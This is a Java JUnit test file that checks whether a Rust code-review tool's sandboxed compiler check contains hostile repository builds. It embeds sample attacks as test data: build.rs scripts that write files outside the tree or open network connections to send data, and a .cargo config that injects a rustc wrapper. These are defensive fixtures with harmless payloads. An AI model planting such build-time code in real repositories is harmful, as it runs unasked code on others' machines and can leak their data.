package dev.rustreview.check;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.rustreview.git.DiffOptions;
import dev.rustreview.git.GitRepository;
import dev.rustreview.model.BadInputException;
import dev.rustreview.model.CompilerCheck;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A repository whose build runs hostile code: none of it reaches outside the temporary tree. Each case also
 * runs once without the sandbox where that is safe, to show the attack is real and the test can fail.
 */
class HostileRepositoryTest {

    static final String LIB = "pub fn answer() -> u32 {\n    42\n}\n";

    @TempDir
    Path tmp;

    @BeforeAll
    static void tools() {
        CrateRepo.requireToolchainAndSandbox();
    }

    @Test
    void buildScriptCannotWriteOutsideTheTemporaryTree() throws Exception {
        Path outside = Files.createDirectories(tmp.resolve("outside")).resolve("marker");
        Path inHome = Path.of(System.getProperty("user.home"), "rust-review-hostile-" + UUID.randomUUID());
        Path repoDir = tmp.resolve("repo");
        String buildRs = """
                fn main() {
                    for p in ["%s", "%s", "%s"] {
                        let _ = std::fs::write(p, "pwned");
                    }
                }
                """.formatted(outside, inHome, repoDir.resolve("pwned-work-tree"));
        CrateRepo repo = hostile(repoDir, Map.of("build.rs", buildRs));
        Map<String, String> before = snapshot(repoDir);

        CompilerCheck check = run(repo, false);

        assertThat(check.sandboxed()).isTrue();
        assertThat(outside).doesNotExist();
        assertThat(inHome).doesNotExist();
        assertThat(repoDir.resolve("pwned-work-tree")).doesNotExist();
        assertThat(snapshot(repoDir)).isEqualTo(before);
        assertThat(leftovers()).isEmpty();

        // Control: the same build without the sandbox does write outside (only the temp-folder marker is
        // left in the script, so nothing lands in the real home).
        CrateRepo control = hostile(tmp.resolve("control"), Map.of("build.rs", """
                fn main() { let _ = std::fs::write("%s", "pwned"); }
                """.formatted(outside)));
        CompilerCheck unsandboxed = run(control, true);
        assertThat(unsandboxed.sandboxed()).isFalse();
        assertThat(unsandboxed.notes()).anyMatch(n -> n.contains("WITHOUT a sandbox"));
        assertThat(outside).exists();
    }

    @Test
    void buildScriptCannotOpenANetworkConnection() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            server.setSoTimeout(200);
            AtomicInteger accepted = new AtomicInteger();
            Thread listener = Thread.ofVirtual().start(() -> {
                while (!server.isClosed()) {
                    try (var socket = server.accept()) {
                        accepted.incrementAndGet();
                    } catch (SocketTimeoutException e) {
                        // keep listening
                    } catch (java.io.IOException e) {
                        return;
                    }
                }
            });
            String buildRs = """
                    use std::io::Write;
                    fn main() {
                        if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:%d") {
                            let _ = s.write_all(b"leak");
                        }
                        if let Ok(mut s) = std::net::TcpStream::connect_timeout(
                                &"1.1.1.1:80".parse().unwrap(), std::time::Duration::from_secs(3)) {
                            let _ = s.write_all(b"leak");
                            panic!("reached the internet");
                        }
                    }
                    """.formatted(server.getLocalPort());
            CrateRepo repo = hostile(tmp.resolve("repo"), Map.of("build.rs", buildRs));

            CompilerCheck check = run(repo, false);

            assertThat(check.sandboxed()).isTrue();
            Thread.sleep(300);
            assertThat(accepted.get()).as("connections that reached the host").isZero();
            server.close();
            listener.join(2000);
        }
    }

    @Test
    void rustcWrapperOutsideTheTreeNeverRuns() throws Exception {
        Path marker = tmp.resolve("wrapper-ran");
        Path wrapper = tmp.resolve("wrapper.sh");
        Files.writeString(wrapper, "#!/bin/sh\necho ran > '" + marker + "'\nexec \"$@\"\n");
        Files.setPosixFilePermissions(wrapper, PosixFilePermissions.fromString("rwx------"));
        Path repoDir = tmp.resolve("repo");
        CrateRepo repo = hostile(repoDir, Map.of(".cargo/config.toml", "[build]\nrustc-wrapper = \"" + wrapper + "\"\n"));
        Map<String, String> before = snapshot(repoDir);

        assertThatThrownBy(() -> run(repo, false))
                .isInstanceOf(BadInputException.class)
                .hasMessageContaining("cargo could not build the head");

        assertThat(marker).doesNotExist();
        assertThat(snapshot(repoDir)).isEqualTo(before);
        assertThat(leftovers()).isEmpty();
    }

    private CrateRepo hostile(Path dir, Map<String, String> hostileFiles) throws Exception {
        Map<String, String> head = new TreeMap<>(hostileFiles);
        head.put("src/lib.rs", LIB + "\npub fn more() -> u32 {\n    1\n}\n");
        return CrateRepo.create(dir, Map.of("Cargo.toml", CrateRepo.CARGO_TOML, "src/lib.rs", LIB))
                .branch("agent/hostile", head);
    }

    private CompilerCheck run(CrateRepo repo, boolean noSandbox) {
        try (GitRepository git = GitRepository.open(repo.dir)) {
            var change = git.branchDiff("main", "agent/hostile", DiffOptions.DEFAULT);
            return new CompilerChecker(tmp.resolve("scratch")).check(git, change, List.of(),
                    CheckOptions.defaults().withNoSandbox(noSandbox), s -> { }, new Cancellation());
        }
    }

    /** The checker's temporary folders are all deleted afterwards. */
    private List<Path> leftovers() throws Exception {
        Path scratch = tmp.resolve("scratch");
        if (!Files.exists(scratch)) {
            return List.of();
        }
        try (Stream<Path> files = Files.list(scratch)) {
            return files.toList();
        }
    }

    /** Every file under {@code dir} (the work tree and .git) with its content hash. */
    static Map<String, String> snapshot(Path dir) throws Exception {
        Map<String, String> files = new TreeMap<>();
        try (Stream<Path> walk = Files.walk(dir)) {
            for (Path p : walk.filter(Files::isRegularFile).toList()) {
                byte[] hash = MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(p));
                files.put(dir.relativize(p).toString(), HexFormat.of().formatHex(hash));
            }
        }
        return files;
    }
}
